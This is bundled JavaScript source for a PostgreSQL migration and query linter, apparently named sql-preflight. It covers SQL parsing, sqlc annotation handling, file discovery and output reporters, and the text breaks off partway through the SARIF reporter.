#!/usr/bin/env node
var __defProp = Object.defineProperty;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __esm = (fn, res, err) => function __init() {
  if (err) throw err[0];
  try {
    return fn && (res = (0, fn[__getOwnPropNames(fn)[0]])(fn = 0)), res;
  } catch (e) {
    throw err = [e], e;
  }
};
var __export = (target, all) => {
  for (var name in all)
    __defProp(target, name, { get: all[name], enumerable: true });
};

// src/errors.ts
var UsageError;
var init_errors = __esm({
  "src/errors.ts"() {
    "use strict";
    UsageError = class extends Error {
      name = "UsageError";
    };
  }
});

// src/core/types.ts
var SEVERITIES;
var init_types = __esm({
  "src/core/types.ts"() {
    "use strict";
    SEVERITIES = ["error", "warning", "notice"];
  }
});

// src/reporters/github.ts
function annotation(finding) {
  const properties2 = [
    ["file", finding.file],
    ["line", finding.line],
    ["endLine", finding.endLine]
  ];
  if (finding.line === finding.endLine) properties2.push(["col", finding.column], ["endColumn", finding.endColumn]);
  properties2.push(["title", finding.ruleId]);
  const message = [finding.message, finding.help, finding.docsUrl].filter(Boolean).join("\n\n");
  return `::${finding.severity} ${properties2.map(([key, value]) => `${key}=${escapeProperty(String(value))}`).join(",")}::${escapeData(message)}`;
}
function escapeData(text2) {
  return text2.replace(/%/g, "%25").replace(/\r/g, "%0D").replace(/\n/g, "%0A");
}
function escapeProperty(text2) {
  return escapeData(text2).replace(/:/g, "%3A").replace(/,/g, "%2C");
}
var ANNOTATIONS_PER_LEVEL, githubReporter;
var init_github = __esm({
  "src/reporters/github.ts"() {
    "use strict";
    init_types();
    ANNOTATIONS_PER_LEVEL = 10;
    githubReporter = {
      format: "github",
      render(report) {
        const lines = [];
        for (const severity of SEVERITIES) {
          const findings = report.findings.filter((finding) => finding.severity === severity);
          lines.push(...findings.slice(0, ANNOTATIONS_PER_LEVEL).map(annotation));
          const hidden = findings.length - ANNOTATIONS_PER_LEVEL;
          if (hidden > 0) {
            lines.push(
              `sql-preflight: ${hidden} more ${severity}${hidden === 1 ? "" : "s"} not annotated (GitHub shows ${ANNOTATIONS_PER_LEVEL} per level); the text, JSON and SARIF reports list every finding.`
            );
          }
        }
        return lines.length > 0 ? lines.join("\n") + "\n" : "";
      }
    };
  }
});

// src/reporters/json.ts
var REPORT_SCHEMA_URL, jsonReporter;
var init_json = __esm({
  "src/reporters/json.ts"() {
    "use strict";
    REPORT_SCHEMA_URL = "https://raw.githubusercontent.com/sql-preflight/sql-preflight/main/docs/report.schema.json";
    jsonReporter = {
      format: "json",
      render(report) {
        return JSON.stringify({ $schema: REPORT_SCHEMA_URL, ...report }, null, 2) + "\n";
      }
    };
  }
});

// src/core/rule.ts
function defineRule(rule) {
  return { ...rule, meta: { ...rule.meta, docsUrl: `${DOCS_BASE_URL}/${rule.meta.id}.md` } };
}
function definePlanRule(rule) {
  return {
    ...rule,
    meta: { ...rule.meta, docsUrl: `${DOCS_BASE_URL}/${rule.meta.id}.md` },
    // The lint engine hands every registered rule each migration file; a plan rule has nothing to look at there.
    create: () => ({})
  };
}
function isPlanRule(rule) {
  return rule.meta.category === "plan" && typeof rule.check === "function";
}
var DOCS_BASE_URL;
var init_rule = __esm({
  "src/core/rule.ts"() {
    "use strict";
    DOCS_BASE_URL = "https://github.com/sql-preflight/sql-preflight/blob/main/docs/rules";
  }
});

// src/core/parse.ts
import { loadModule, parseSync, scanSync, hasSqlDetails } from "libpg-query";
function loadParser() {
  loaded ??= loadModule();
  return loaded;
}
function parseSql(text2, byteLength2 = Buffer.byteLength(text2, "utf8")) {
  if (text2.length === 0) return { ok: true, statements: [] };
  let scanned;
  try {
    scanned = scanSync(text2).tokens.filter((t) => !COMMENT_TOKENS.has(t.tokenName));
  } catch {
  }
  const deep = scanned && tooDeep(scanned);
  if (deep) {
    return {
      ok: false,
      error: { message: `nesting deeper than ${MAX_NESTING} levels at or near "${deep.text}", which sql-preflight does not analyse`, offset: deep.start }
    };
  }
  let result2;
  try {
    result2 = parseSync(text2);
  } catch (error) {
    return { ok: false, error: toParseFailure(error, text2) };
  }
  const raw = result2.stmts ?? [];
  if (raw.length === 0) return { ok: true, statements: [] };
  const tokens = scanned ?? [];
  const statements = [];
  let cursor = 0;
  for (const stmt of raw) {
    const start = stmt.stmt_location ?? 0;
    const end2 = stmt.stmt_len ? start + stmt.stmt_len : byteLength2;
    if (treeDepth(stmt.stmt) > MAX_NESTING) {
      const first2 = tokens.find((t) => t.start >= start);
      return { ok: false, error: { message: `nesting deeper than ${MAX_NESTING} levels, which sql-preflight does not analyse`, offset: first2?.start ?? start } };
    }
    while (cursor < tokens.length && tokens[cursor].start < start) cursor++;
    const first = cursor;
    while (cursor < tokens.length && tokens[cursor].end <= end2) cursor++;
    let last = cursor - 1;
    while (last > first && tokens[last].text === ";") last--;
    const node = stmt.stmt;
    const type = node ? Object.keys(node)[0] : "Unknown";
    statements.push({
      type,
      node: node?.[type] ?? {},
      range: first <= last ? { start: tokens[first].start, end: tokens[last].end } : { start, end: end2 },
      tokens: tokens.slice(first, last + 1).map((t) => ({ text: t.text, range: { start: t.start, end: t.end }, keyword: t.keywordKind !== 0 }))
    });
  }
  return { ok: true, statements };
}
function tooDeep(tokens) {
  const fresh = (closer) => ({ closer, base: 0, depth: 0, deepest: 0 });
  const levels = [fresh("")];
  let outer = 0;
  for (const token of tokens) {
    const word2 = token.keywordKind === 0 ? token.text : token.text.toUpperCase();
    let level = levels.at(-1);
    const closer = OPENERS.get(word2);
    if (closer) {
      outer += level.depth + 1;
      level = fresh(closer);
      levels.push(level);
    } else if (word2 === level.closer) {
      levels.pop();
      const inner = level;
      level = levels.at(-1);
      outer -= level.depth + 1;
      level.depth += 1 + inner.deepest;
    } else if (word2 === ";" && levels.length === 1) {
      levels[0] = fresh("");
      continue;
    } else if (SEPARATORS.has(word2)) {
      level.depth = level.base;
    } else if (!LEAVES.has(token.tokenName) && word2 !== ".") {
      if (NESTING_CLAUSES.has(word2)) level.base++;
      level.depth++;
    }
    level.deepest = Math.max(level.deepest, level.depth);
    if (outer + level.depth > MAX_NESTING) return token;
  }
  return void 0;
}
function treeDepth(root) {
  let deepest = 0;
  const pending = [[root, 0]];
  while (pending.length > 0) {
    const [value, above] = pending.pop();
    if (!value || typeof value !== "object") continue;
    const key = Array.isArray(value) ? void 0 : Object.keys(value)[0];
    const depth = key !== void 0 && /^[A-Z]/.test(key) ? above + 1 : above;
    deepest = Math.max(deepest, depth);
    for (const child of Array.isArray(value) ? value : Object.values(value)) pending.push([child, depth]);
  }
  return deepest;
}
function toParseFailure(error, text2) {
  if (hasSqlDetails(error) && error.sqlDetails) {
    const cursor = error.sqlDetails.cursorPosition;
    return {
      message: shortenNear(error.sqlDetails.message),
      offset: cursor >= 0 ? codePointToByteOffset(text2, cursor) : void 0
    };
  }
  return { message: error instanceof Error ? error.message : String(error), offset: void 0 };
}
function codePointToByteOffset(text2, codePoint) {
  let bytes = 0;
  let seen = 0;
  for (const char of text2) {
    if (seen === codePoint) return bytes;
    bytes += Buffer.byteLength(char, "utf8");
    seen++;
  }
  return bytes;
}
function shortenNear(message) {
  return message.replace(/(at or near ")([\s\S]*)"$/, (_, lead, near) => {
    const firstLine = near.split(/\r?\n/)[0];
    const chars = [...firstLine.replace(/[\x00-\x1f\x7f]/g, "\uFFFD")];
    return `${lead}${chars.slice(0, 40).join("")}${firstLine === near && chars.length <= 40 ? "" : "\u2026"}"`;
  });
}
var loaded, COMMENT_TOKENS, MAX_NESTING, OPENERS, SEPARATORS, NESTING_CLAUSES, LEAVES;
var init_parse = __esm({
  "src/core/parse.ts"() {
    "use strict";
    COMMENT_TOKENS = /* @__PURE__ */ new Set(["SQL_COMMENT", "C_COMMENT"]);
    MAX_NESTING = 1e3;
    OPENERS = /* @__PURE__ */ new Map([["(", ")"], ["[", "]"], ["CASE", "END"]]);
    SEPARATORS = /* @__PURE__ */ new Set([",", ";", "AND", "OR", "WHEN", "THEN", "ELSE"]);
    NESTING_CLAUSES = /* @__PURE__ */ new Set(["UNION", "INTERSECT", "EXCEPT", "JOIN"]);
    LEAVES = /* @__PURE__ */ new Set(["IDENT", "UIDENT", "ICONST", "FCONST", "SCONST", "USCONST", "BCONST", "XCONST", "PARAM"]);
  }
});

// src/migrations/order.ts
function naturalCompare(a, b) {
  const left = a.match(CHUNKS) ?? [];
  const right = b.match(CHUNKS) ?? [];
  for (let i = 0; i < Math.min(left.length, right.length); i++) {
    const x = left[i];
    const y = right[i];
    if (x === y) continue;
    if (isDigits(x) && isDigits(y)) {
      const byValue = compareBigInt(BigInt(x), BigInt(y));
      if (byValue !== 0) return byValue;
      continue;
    }
    return compareCodeUnits(x, y);
  }
  return left.length - right.length || compareCodeUnits(a, b);
}
function compareCodeUnits(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}
function compareBigInt(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}
function isDigits(s) {
  return s.charCodeAt(0) >= 48 && s.charCodeAt(0) <= 57;
}
function parseFlywayVersion(text2) {
  if (!/^\d+([._]\d+)*$/.test(text2)) return void 0;
  return text2.split(/[._]/).map((part) => BigInt(part));
}
function compareFlywayVersions(a, b) {
  for (let i = 0; i < Math.max(a.length, b.length); i++) {
    const order = compareBigInt(a[i] ?? 0n, b[i] ?? 0n);
    if (order !== 0) return order;
  }
  return 0;
}
var CHUNKS;
var init_order = __esm({
  "src/migrations/order.ts"() {
    "use strict";
    CHUNKS = /\d+|\D+/g;
  }
});

// src/migrations/text.ts
function decodeSql(bytes) {
  const text2 = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString("utf8");
  const invalid = firstInvalidUtf8(bytes);
  const nul = bytes.indexOf(0);
  if (invalid !== -1 && (nul === -1 || invalid < nul)) {
    const hex = bytes[invalid].toString(16).toUpperCase().padStart(2, "0");
    return {
      text: text2,
      readError: {
        message: `The file is not valid UTF-8: byte 0x${hex} at byte offset ${invalid} does not form a character, so it was not analysed.`,
        range: byteAt(invalid)
      }
    };
  }
  if (nul !== -1) {
    return {
      text: text2,
      readError: {
        message: `The file contains a NUL byte at byte offset ${nul}: it is a binary file, not SQL text, so it was not analysed.`,
        range: byteAt(nul)
      }
    };
  }
  return { text: text2 };
}
function byteAt(offset) {
  return { start: offset, end: offset + 1 };
}
function firstInvalidUtf8(bytes) {
  let i = 0;
  while (i < bytes.length) {
    const lead = bytes[i];
    if (lead < 128) {
      i++;
      continue;
    }
    let continuation;
    let minimum;
    if (lead >= 194 && lead <= 223) [continuation, minimum] = [1, 128];
    else if (lead >= 224 && lead <= 239) [continuation, minimum] = [2, 2048];
    else if (lead >= 240 && lead <= 244) [continuation, minimum] = [3, 65536];
    else return i;
    if (i + continuation >= bytes.length) return i;
    let codePoint = lead & 63 >> continuation;
    for (let k = 1; k <= continuation; k++) {
      const next = bytes[i + k];
      if ((next & 192) !== 128) return i;
      codePoint = codePoint << 6 | next & 63;
    }
    if (codePoint < minimum || codePoint > 1114111 || codePoint >= 55296 && codePoint <= 57343) return i;
    i += continuation + 1;
  }
  return -1;
}
function splitLines(text2) {
  const lines = [];
  let offset = 0;
  for (const raw of text2.split("\n")) {
    const content = raw.endsWith("\r") ? raw.slice(0, -1) : raw;
    lines.push({ text: content, start: offset, end: offset + Buffer.byteLength(content, "utf8") });
    offset += Buffer.byteLength(raw, "utf8") + 1;
  }
  return lines;
}
function byteLength(text2) {
  return Buffer.byteLength(text2, "utf8");
}
var init_text = __esm({
  "src/migrations/text.ts"() {
    "use strict";
  }
});

// src/core/source.ts
function isLeadByte(byte) {
  return (byte & 192) !== 128;
}
function countCodePoints(bytes, start, end2) {
  let count2 = 0;
  for (let i = start; i < end2; i++) if (isLeadByte(bytes[i])) count2++;
  return count2;
}
function maskRanges(text2, ranges) {
  if (ranges.length === 0) return text2;
  const bytes = Buffer.from(text2, "utf8");
  for (const { start, end: end2 } of ranges) {
    for (let i = start; i < end2 && i < bytes.length; i++) {
      if (bytes[i] !== 10 && bytes[i] !== 13) bytes[i] = 32;
    }
  }
  return bytes.toString("utf8");
}
var BOM, LineIndex;
var init_source = __esm({
  "src/core/source.ts"() {
    "use strict";
    BOM = 65279;
    LineIndex = class {
      bytes;
      lineStarts = [0];
      bomLength;
      constructor(text2) {
        this.bytes = Buffer.from(text2, "utf8");
        this.bomLength = text2.charCodeAt(0) === BOM ? 3 : 0;
        for (let i = 0; i < this.bytes.length; i++) {
          if (this.bytes[i] === 10) this.lineStarts.push(i + 1);
        }
      }
      get lineCount() {
        return this.lineStarts.length;
      }
      position(byteOffset) {
        const offset = Math.max(0, Math.min(byteOffset, this.bytes.length));
        let lo = 0;
        let hi = this.lineStarts.length - 1;
        while (lo < hi) {
          const mid = lo + hi + 1 >> 1;
          if (this.lineStarts[mid] <= offset) lo = mid;
          else hi = mid - 1;
        }
        const lineStart = lo === 0 ? Math.min(this.bomLength, offset) : this.lineStarts[lo];
        return { line: lo + 1, column: countCodePoints(this.bytes, lineStart, offset) + 1 };
      }
      span(range2) {
        const start = this.position(range2.start);
        const end2 = this.position(range2.end);
        return { line: start.line, column: start.column, endLine: end2.line, endColumn: end2.column };
      }
      /** The byte offset of a 1-based line's first byte. */
      lineStart(line) {
        return this.lineStarts[Math.max(0, Math.min(line - 1, this.lineStarts.length - 1))];
      }
      /** The text of a 1-based line, without its line terminator. */
      lineText(line) {
        const start = this.lineStart(line);
        const end2 = line < this.lineStarts.length ? this.lineStarts[line] - 1 : this.bytes.length;
        return this.bytes.toString("utf8", line === 1 ? this.bomLength : start, end2).replace(/\r$/, "");
      }
      slice(range2) {
        return this.bytes.toString("utf8", range2.start, range2.end);
      }
    };
  }
});

// src/queries/types.ts
var SQLC_COMMANDS;
var init_types2 = __esm({
  "src/queries/types.ts"() {
    "use strict";
    SQLC_COMMANDS = [
      ":one",
      ":many",
      ":exec",
      ":execrows",
      ":execresult",
      ":execlastid",
      ":copyfrom",
      ":batchexec",
      ":batchmany",
      ":batchone"
    ];
  }
});

// src/queries/sqlc.ts
function readAnnotation(line) {
  const prefix = line.startsWith("--") ? "--" : line.startsWith("/*") ? "/*" : void 0;
  if (!prefix) return void 0;
  const rest = line.slice(prefix.length);
  if (!rest.trim().startsWith("name") || !rest.includes(":")) return void 0;
  const expected = `${prefix} name: <Name> <:command>${prefix === "/*" ? " */" : ""}`;
  if (!rest.startsWith(" name: ")) return { problem: `sqlc cannot read this annotation: it must read "${expected}".` };
  const parts = line.trim().split(" ");
  if (prefix === "/*") parts.pop();
  if (parts.length === 3) return { problem: `The annotation names no command; sqlc needs one of ${COMMAND_LIST}.` };
  if (parts.length !== 4) return { problem: `sqlc cannot read this annotation: it must read "${expected}", words separated by single spaces.` };
  const [, , name, command] = parts;
  if (!COMMANDS.has(command)) return { name, problem: `"${command}" is not a sqlc command; use one of ${COMMAND_LIST}.` };
  if (!GO_IDENTIFIER.test(name)) return { command, problem: `"${name}" is not a valid sqlc query name: sqlc needs a Go identifier.` };
  return { name, command };
}
function identifier(token) {
  if (!token) return void 0;
  const quoted = QUOTED_IDENTIFIER.exec(token.text);
  if (quoted) return quoted[1].replace(/""/g, '"');
  return UNQUOTED_IDENTIFIER.test(token.text) ? token.text.replace(/[A-Z]/g, (c) => c.toLowerCase()) : void 0;
}
function rewriteParameters(bytes, range2, tokens, named) {
  const positional = /* @__PURE__ */ new Set();
  for (const token of tokens) {
    const param = PARAM.exec(token.text);
    if (param) positional.add(Number(param[1]));
  }
  const uses = [];
  const embeds = [];
  let problem;
  for (let i = 0; named && i < tokens.length; i++) {
    const token = tokens[i];
    const next = tokens[i + 1];
    if (token.text === "@" && next && next.range.start === token.range.end) {
      const name2 = identifier(next);
      if (name2 !== void 0) {
        uses.push({ range: { start: token.range.start, end: next.range.end }, name: name2, nullable: false, list: false });
        i++;
      }
      continue;
    }
    if (identifier(token) !== "sqlc" || next?.text !== "." || tokens[i + 3]?.text !== "(") continue;
    const macro = identifier(tokens[i + 2]);
    const callee = { start: token.range.start, end: tokens[i + 2].range.end };
    if (macro === void 0 || !MACROS.has(macro)) {
      problem = { message: `sqlc.${tokens[i + 2].text} is not a sqlc macro: sqlc knows sqlc.arg, sqlc.narg, sqlc.slice and sqlc.embed.`, range: callee };
      break;
    }
    const argument = tokens[i + 4];
    const close = tokens[i + 5];
    const name = close?.text === ")" ? identifier(argument) ?? STRING.exec(argument.text)?.[1]?.replace(/''/g, "'") : void 0;
    if (name === void 0) {
      problem = { message: `sqlc.${macro} takes one name, an identifier or a string literal.`, range: callee };
      break;
    }
    const call = { start: token.range.start, end: close.range.end };
    if (macro === "embed") embeds.push({ range: call, text: `${identifier(argument) === void 0 ? quote(name) : argument.text}.*` });
    else uses.push({ range: call, name, nullable: macro === "narg", list: macro === "slice" });
    i += 5;
  }
  const numbers = /* @__PURE__ */ new Map();
  const parameters = /* @__PURE__ */ new Map();
  let free = 1;
  const edits = [...embeds];
  for (const use of uses) {
    let index = numbers.get(use.name);
    if (index === void 0) {
      while (positional.has(free) || parameters.has(free)) free++;
      index = free;
      numbers.set(use.name, index);
      parameters.set(index, { index, name: use.name });
    }
    const parameter = parameters.get(index);
    if (use.nullable) parameter.nullable = true;
    if (use.list) parameter.list = true;
    edits.push({ range: use.range, text: `$${index}` });
  }
  const count2 = Math.max(0, ...positional, ...parameters.keys());
  return {
    ...applyEdits(bytes, range2, edits.sort((a, b) => a.range.start - b.range.start)),
    parameters: Array.from({ length: count2 }, (_, i) => parameters.get(i + 1) ?? { index: i + 1 }),
    ...problem ? { problem } : {}
  };
}
function quote(name) {
  return `"${name.replace(/"/g, '""')}"`;
}
function applyEdits(bytes, range2, edits) {
  const parts = [];
  const pieces = [];
  let at = 0;
  const push = (part, from, copied) => {
    parts.push(part);
    pieces.push({ at, from, length: part.length, copied });
    at += part.length;
  };
  let cursor = range2.start;
  for (const edit of edits) {
    push(bytes.subarray(cursor, edit.range.start), cursor, true);
    push(Buffer.from(edit.text, "utf8"), edit.range.start, false);
    cursor = edit.range.end;
  }
  push(bytes.subarray(cursor, range2.end), cursor, true);
  return {
    sql: Buffer.concat(parts).toString("utf8"),
    origin: (offset) => {
      const piece = pieces.find((p) => offset < p.at + p.length);
      if (!piece) return range2.end;
      return piece.copied ? piece.from + offset - piece.at : piece.from;
    }
  };
}
var COMMANDS, COMMAND_LIST, GO_IDENTIFIER, PARAM, UNQUOTED_IDENTIFIER, QUOTED_IDENTIFIER, STRING, MACROS;
var init_sqlc = __esm({
  "src/queries/sqlc.ts"() {
    "use strict";
    init_types2();
    COMMANDS = new Set(SQLC_COMMANDS);
    COMMAND_LIST = SQLC_COMMANDS.join(", ");
    GO_IDENTIFIER = /^[\p{L}_][\p{L}\p{Nd}_]*$/u;
    PARAM = /^\$(\d+)$/;
    UNQUOTED_IDENTIFIER = /^[A-Za-z_\u0080-\u{10FFFF}][A-Za-z0-9_$\u0080-\u{10FFFF}]*$/u;
    QUOTED_IDENTIFIER = /^"((?:[^"]|"")+)"$/s;
    STRING = /^'((?:[^']|'')*)'$/s;
    MACROS = /* @__PURE__ */ new Set(["arg", "narg", "slice", "embed"]);
  }
});

// src/queries/read.ts
import { scanSync as scanSync2 } from "libpg-query";
function readQueryFile(path3, text2) {
  const bom = text2.charCodeAt(0) === BOM2 ? 3 : 0;
  const executed = maskRanges(text2, bom ? [{ start: 0, end: 3 }] : []);
  const bytes = Buffer.from(executed, "utf8");
  const annotations = findAnnotations(executed, bytes, bom);
  return annotations.some((a) => !a.problem) ? sqlcQueries(path3, bytes, annotations) : plainQueries(path3, bytes, executed);
}
function sqlcQueries(path3, bytes, annotations) {
  return annotations.map((annotation2, i) => {
    const base = {
      file: path3,
      ...annotation2.name ? { name: annotation2.name } : {},
      ...annotation2.command ? { command: annotation2.command } : {}
    };
    const end2 = annotations[i + 1]?.range.start ?? bytes.length;
    const outcome = parseAt(bytes, annotation2.range.start, end2);
    if (!outcome.ok) return unparsed(base, contentRange(bytes, annotation2.range.end, end2), outcome.error);
    const statement = outcome.statements[0];
    if (!statement) {
      const problem = { message: "The annotation is followed by no statement.", range: annotation2.range };
      return { ...base, sql: "", parameters: [], range: annotation2.range, plannable: false, problem };
    }
    const query = toQuery(base, bytes, statement, true);
    return annotation2.problem ? { ...query, problem: { message: annotation2.problem, range: annotation2.range } } : query;
  });
}
function plainQueries(path3, bytes, text2) {
  const base = { file: path3 };
  const parsed = parseSql(text2, bytes.length);
  if (parsed.ok) return parsed.statements.map((statement) => toQuery(base, bytes, statement, false));
  const semicolons = semicolonEnds(text2);
  if (!semicolons) return [unparsed(base, contentRange(bytes, 0, bytes.length), parsed.error)];
  const queries = [];
  let start = 0;
  for (const end2 of [...semicolons, bytes.length]) {
    const outcome = parseAt(bytes, start, end2);
    if (outcome.ok) queries.push(...outcome.statements.map((statement) => toQuery(base, bytes, statement, false)));
    else queries.push(unparsed(base, contentRange(bytes, start, end2), outcome.error));
    start = end2;
  }
  return queries;
}
function toQuery(base, bytes, statement, named) {
  const rewrite = rewriteParameters(bytes, statement.range, statement.tokens, named);
  const reason = skipReason(statement, base.command);
  const query = {
    ...base,
    sql: rewrite.sql,
    parameters: rewrite.parameters,
    range: statement.range,
    plannable: reason === void 0,
    ...reason ? { skipReason: reason } : {}
  };
  let problem = rewrite.problem;
  if (!problem && rewrite.sql !== bytes.toString("utf8", statement.range.start, statement.range.end)) {
    const checked = parseSql(rewrite.sql);
    if (!checked.ok) {
      const at = rewrite.origin(checked.error.offset ?? 0);
      problem = { message: `${checked.error.message} (once the sqlc parameters are written as $n)`, range: { start: at, end: at } };
    }
  }
  return problem ? { ...query, problem } : query;
}
function skipReason(statement, command) {
  if (command === ":copyfrom") {
    return "sqlc runs a :copyfrom query as COPY FROM STDIN into the INSERT's table and columns, not as the INSERT itself, and EXPLAIN cannot plan a COPY.";
  }
  if (!PLANNABLE.has(statement.type)) {
    return `${statement.tokens[0]?.text.toUpperCase() ?? statement.type} is not a query EXPLAIN can plan: only SELECT, INSERT, UPDATE, DELETE and MERGE are.`;
  }
  if (statement.node.intoClause) return "SELECT INTO creates a table (it is CREATE TABLE AS), so it is not planned as a query.";
  return void 0;
}
function unparsed(base, range2, error) {
  const at = error.offset ?? range2.start;
  return { ...base, sql: "", parameters: [], range: range2, plannable: false, problem: { message: error.message, range: { start: at, end: at } } };
}
function findAnnotations(text2, bytes, bom) {
  const found = [];
  for (const start of commentStarts(text2, bytes, bom)) {
    if (start !== bom && bytes[start - 1] !== 10) continue;
    const newline = bytes.indexOf(10, start);
    const line = bytes.toString("utf8", start, newline === -1 ? bytes.length : newline).replace(/\r$/, "");
    const annotation2 = readAnnotation(line);
    if (annotation2) found.push({ ...annotation2, range: { start, end: start + Buffer.byteLength(line, "utf8") } });
  }
  return found;
}
function commentStarts(text2, bytes, bom) {
  try {
    return scanSync2(text2).tokens.filter((t) => t.tokenName === "SQL_COMMENT" || t.tokenName === "C_COMMENT").map((t) => t.start);
  } catch {
    const starts = [bom];
    for (let i = bom; i < bytes.length; i++) if (bytes[i] === 10) starts.push(i + 1);
    return starts.filter((s) => bytes[s] === 45 && bytes[s + 1] === 45 || bytes[s] === 47 && bytes[s + 1] === 42);
  }
}
function semicolonEnds(text2) {
  try {
    return scanSync2(text2).tokens.filter((t) => t.text === ";").map((t) => t.end);
  } catch {
    return void 0;
  }
}
function parseAt(bytes, start, end2) {
  const outcome = parseSql(bytes.toString("utf8", start, end2), end2 - start);
  if (!outcome.ok) {
    const { message, offset } = outcome.error;
    return { ok: false, error: { message, offset: offset === void 0 ? void 0 : offset + start } };
  }
  const shift = (range2) => ({ start: range2.start + start, end: range2.end + start });
  return {
    ok: true,
    statements: outcome.statements.map((s) => ({ ...s, range: shift(s.range), tokens: s.tokens.map((t) => ({ ...t, range: shift(t.range) })) }))
  };
}
function contentRange(bytes, start, end2) {
  while (start < end2 && WHITESPACE.has(bytes[start])) start++;
  while (end2 > start && (WHITESPACE.has(bytes[end2 - 1]) || bytes[end2 - 1] === 59)) end2--;
  return { start, end: end2 };
}
var BOM2, PLANNABLE, WHITESPACE;
var init_read = __esm({
  "src/queries/read.ts"() {
    "use strict";
    init_parse();
    init_source();
    init_sqlc();
    BOM2 = 65279;
    PLANNABLE = /* @__PURE__ */ new Set(["SelectStmt", "InsertStmt", "UpdateStmt", "DeleteStmt", "MergeStmt"]);
    WHITESPACE = /* @__PURE__ */ new Set([32, 9, 10, 13, 12]);
  }
});

// src/queries/discover.ts
import { lstat, readFile, realpath, stat } from "node:fs/promises";
import path, { posix } from "node:path";
import { escapePath, glob, isDynamicPattern } from "tinyglobby";
async function discoverQueries(cwd, globs, ignore = []) {
  await loadParser();
  const problems = [];
  const matched = [];
  for (const target of globs) matched.push(...await expand(cwd, target, ignore, problems));
  const files = [];
  for (const found of (await uniqueByRealPath(cwd, matched, problems)).sort((a, b) => naturalCompare(a.path, b.path))) {
    files.push(await load(found));
  }
  return { files, problems };
}
async function expand(cwd, target, ignore, problems) {
  const options = { cwd, followSymbolicLinks: true, ignore: [...SKIPPED_GLOBS, ...ignore] };
  if (isDynamicPattern(target)) {
    const matched = await glob(target, options);
    const sql2 = matched.filter((p) => p.endsWith(".sql"));
    if (sql2.length === 0) problems.push({ kind: "path", path: target, message: matched.length === 0 ? "The glob matched no files." : "The glob matched no .sql files." });
    return sql2;
  }
  const abs = path.resolve(cwd, target);
  const info = await stat(abs).catch((error) => error);
  if (info instanceof Error) {
    problems.push({ kind: "path", path: target, message: info.code === "ENOENT" ? "No such file or directory." : `Cannot read it (${info.code ?? info.message}).` });
    return [];
  }
  const relative2 = display(cwd, abs);
  if (info.isDirectory()) {
    const sql2 = await glob(relative2 === "." ? "**/*.sql" : `${escapePath(relative2)}/**/*.sql`, options);
    if (sql2.length === 0) problems.push({ kind: "path", path: target, message: "No .sql files found." });
    return sql2;
  }
  if (!abs.endsWith(".sql")) {
    problems.push({ kind: "path", path: target, message: "Not a .sql file." });
    return [];
  }
  const sql = await glob(escapePath(relative2), { ...options, dot: true });
  if (sql.length === 0) problems.push({ kind: "path", path: target, message: "It matches an ignore glob, so it was not read." });
  return sql;
}
async function uniqueByRealPath(cwd, matched, problems) {
  const realCwd = await realpath(cwd);
  const candidates = await Promise.all(
    [...new Set(matched)].map(async (file) => {
      const abs = path.resolve(cwd, file);
      const real = await realpath(abs).catch(() => abs);
      return { path: file, abs, real, direct: real === path.join(realCwd, file) };
    })
  );
  candidates.sort((a, b) => Number(b.direct) - Number(a.direct) || a.path.split("/").length - b.path.split("/").length || naturalCompare(a.path, b.path));
  const seen = /* @__PURE__ */ new Set();
  const loops = /* @__PURE__ */ new Set();
  const unique4 = [];
  for (const candidate of candidates) {
    if (!seen.has(candidate.real)) {
      seen.add(candidate.real);
      unique4.push({ path: candidate.path, abs: candidate.abs });
      continue;
    }
    const loop = await loopThrough(cwd, candidate.path);
    if (loop && !loops.has(loop.link)) {
      loops.add(loop.link);
      problems.push({ kind: "path", path: loop.link, message: `Symbolic link loop: it points to ${loop.target}, which contains it; the files below it were read once, at their real paths.` });
    }
  }
  return unique4;
}
async function loopThrough(cwd, file) {
  const folders = posix.dirname(file).split("/");
  for (let i = 1; i <= folders.length; i++) {
    const link = folders.slice(0, i).join("/");
    const abs = path.resolve(cwd, link);
    if (!(await lstat(abs).catch(() => void 0))?.isSymbolicLink()) continue;
    const target = await realpath(abs);
    const relative2 = path.relative(target, await realpath(path.dirname(abs)));
    if (relative2 !== ".." && !relative2.startsWith(`..${path.sep}`) && !path.isAbsolute(relative2)) return { link, target: display(cwd, target) };
  }
  return void 0;
}
async function load(found) {
  let bytes;
  try {
    bytes = await readFile(found.abs);
  } catch (error) {
    return { path: found.path, text: "", queries: [], readError: { message: `The file could not be read (${error.code ?? error.message}).` } };
  }
  const { text: text2, readError } = decodeSql(bytes);
  return readError ? { path: found.path, text: text2, queries: [], readError } : { path: found.path, text: text2, queries: readQueryFile(found.path, text2) };
}
function display(cwd, abs) {
  return path.relative(cwd, abs).split(path.sep).join("/") || ".";
}
var SKIPPED_GLOBS;
var init_discover = __esm({
  "src/queries/discover.ts"() {
    "use strict";
    init_parse();
    init_order();
    init_text();
    init_read();
    SKIPPED_GLOBS = ["**/node_modules/**", "**/.git/**"];
  }
});

// src/queries/location.ts
function queryLocation(query) {
  return `${query.file}:${query.line}${query.name ? ` (${query.name})` : ""}`;
}
var init_location = __esm({
  "src/queries/location.ts"() {
    "use strict";
  }
});

// src/queries/index.ts
var init_queries = __esm({
  "src/queries/index.ts"() {
    "use strict";
    init_discover();
    init_location();
    init_read();
  }
});

// src/reporters/sarif.ts
function ruleDescriptor(rule) {
  const properties2 = {
    category: rule.category,
    tags: ["postgresql", "migrations", rule.category],
    "problem.severity": PROBLEM_SEVERITY[rule.severity]
  };
  if (rule.postgres) properties2.postgres = rule.postgres;
  return {
    id: rule.id,
    name: pascalCase(rule.id),
    shortDescription: { text: rule.summary },
    fullDescription: { text: rule.why },
    help: {
      text: `${rule.safeAlternative}

Documentation: ${rule.docsUrl}`,
      markdown: `**Safe alternative:** ${rule.safeAlternative}

[Documentation of ${rule.id}](${rule.docsUrl})`
    },
    helpUri: rule.docsUrl,
    defaultConfiguration: { level: LEVELS[rule.severity] },
    properties: properties2
  };
}
function unknownRuleDescriptor(finding) {
  return {
    id: finding.ruleId,
    name: pascalCase(finding.ruleId),
    ...finding.docsUrl ? { helpUri: finding.docsUrl } : {},
    defaultConfiguration: { level: LEVELS[finding.severity] }
  };
}
function result(finding, ruleIndex, rule) {
  const location = artifactLocation(finding.file);
  const specificHelp = finding.help && finding.help !== rule?.safeAlternative ? `

${finding.help}` : "";
  const fixes = finding.fix && finding.fix.edits.length > 0 ? [
    {
      description: { text: finding.fix.description },
      artifactChanges: [
        {
